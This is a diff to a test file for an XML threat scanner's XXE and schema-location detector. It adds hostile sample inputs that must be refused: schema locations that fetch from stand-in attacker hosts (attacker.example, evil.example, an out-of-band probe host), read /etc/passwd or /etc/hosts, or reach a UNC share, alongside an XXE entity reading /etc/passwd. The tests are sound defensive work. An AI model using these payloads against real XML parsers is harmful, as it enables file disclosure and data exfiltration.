@@ -6,6 +6,7 @@ import { describe, it } from 'node:test';
 import assert from 'node:assert/strict';
 import type { DetectContext } from '../src/threats/types.js';
 import { detectXxe, scanXml } from '../src/threats/xml.js';
+import { assertCheap } from './threats-timing.js';
 
 const LIMITS = { maxBytes: 1 << 20, maxDepth: 64, maxItems: 100_000 };
 
@@ -143,6 +144,33 @@ describe('scanXml XXE and bombs', () => {
     assert.equal(x?.detector, 'xxe.schema-location');
     assert.ok((x?.paranoia ?? 1) > 1);
   });
+  // [document, refused at paranoia 1]: schema locations an XML parser may fetch
+  const XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"';
+  const SCHEMA_LOCATIONS: readonly (readonly [string, boolean])[] = [
+    // out-of-band probes: a schema away from its namespace's site
+    [`<aai xmlns="http://a.b/" ${XSI} xsi:schemaLocation="http://a.b/ http://c5ipg3yqo8.oast.example/aai.xsd">aai</aai>`, true],
+    [`<r ${XSI} xsi:schemaLocation="http://shop.example/orders https://attacker.example/o.xsd\n http://shop.example/x http://shop.example/x.xsd"/>`, true],
+    // local files and non-web schemes, whatever the namespace
+    [`<a ${XSI} xsi:noNamespaceSchemaLocation="file:///etc/passwd">x</a>`, true],
+    [`<a ${XSI} xsi:schemaLocation="urn:x jar:http://evil.example/x.jar!/a.xsd"/>`, true],
+    [`<a ${XSI} xsi:noNamespaceSchemaLocation="\\\\attacker.example\\share\\a.xsd"/>`, true],
+    [`<a xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:schemaLocation='http://a.example/ns netdoc:///etc/hosts'/>`, true],
+    // documents as they are written: schemas beside their namespaces, relative, or under a URN namespace
+    [`<project xmlns="http://maven.apache.org/POM/4.0.0" ${XSI} xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd"><modelVersion>4.0.0</modelVersion></project>`, false],
+    [`<beans ${XSI} xsi:schemaLocation="http://www.springframework.org/schema/beans https://www.springframework.org/schema/beans/spring-beans.xsd"/>`, false],
+    [`<o xmlns="http://www.example.com/orders" ${XSI} xsi:schemaLocation="http://www.example.com/orders https://cdn.example.com/schemas/orders.xsd"/>`, false],
+    [`<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" ${XSI} xsi:schemaLocation="urn:oasis:names:tc:SAML:2.0:metadata https://docs.oasis-open.org/security/saml/v2.0/saml-schema-metadata-2.0.xsd"/>`, false],
+    [`<a ${XSI} xsi:noNamespaceSchemaLocation="orders.xsd"/>`, false],
+    [`<ehcache ${XSI} xsi:noNamespaceSchemaLocation="http://www.ehcache.org/ehcache.xsd"/>`, false],
+  ];
+  for (const [doc, refused] of SCHEMA_LOCATIONS) {
+    it(`${refused ? 'refuses' : 'passes'} the schema location of ${doc.slice(0, 70)}`, () => {
+      for (const h of [scan(doc).hit, detectXxe(doc, doc.toLowerCase(), CTX)]) {
+        const p1 = h !== undefined && h.paranoia === 1 && h.severity >= 5;
+        assert.equal(p1, refused, JSON.stringify(h));
+      }
+    });
+  }
   it('reports the threat even when the document is also malformed', () => {
     const r = scan('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;');
     assert.ok(r.error);
@@ -178,6 +206,8 @@ describe('detectXxe on string values', () => {
     'The !ENTITY keyword declares entities in a DTD',
     '<note><to>Tove</to></note>',
     'O\'Brien <obrien@example.com>',
+    'Set the xsi:schemaLocation attribute to point at your schema file (http://example.com/x.xsd).',
+    'xsi:schemaLocation = file:///etc/passwd is what the attacker sent',
   ];
   for (const b of benign) {
     it(`passes ${b.slice(0, 50)}`, () => {
@@ -205,17 +235,14 @@ describe('XML pathological inputs stay linear', () => {
   for (const [name, text] of cases) {
     it(name, () => {
       const limits = { maxBytes: 1 << 20, maxDepth: 1 << 20, maxItems: 1 << 20 };
-      const lower = text.toLowerCase();
-      let best = Infinity;
-      // best of three: the first call also pays for compilation
-      for (let r = 0; r < 3; r++) {
-        const t0 = process.hrtime.bigint();
-        scanXml(text, limits);
-        detectXxe(text, lower, CTX);
-        best = Math.min(best, Number(process.hrtime.bigint() - t0) / 1e6);
-      }
-      // Linear scans take a few ms for 100 KB; a quadratic one would take seconds.
-      assert.ok(best < 60, `${name} took ${best.toFixed(1)} ms`);
+      const both = (s: string): void => {
+        scanXml(s, limits);
+        detectXxe(s, s.toLowerCase(), CTX);
+      };
+      // Linear scans take a few ms for 100 KB; a quadratic one would take seconds. The ordinary
+      // input of the same size: a document of short elements.
+      const ordinary = '<r>' + '<i a="1">x y</i>'.repeat(Math.ceil(text.length / 17)) + '</r>';
+      assertCheap(name, both, text, { ceilingMs: 120, ordinary, runs: 3 });
     });
   }
   it('entity chains are bombs, evaluated without expansion', () => {
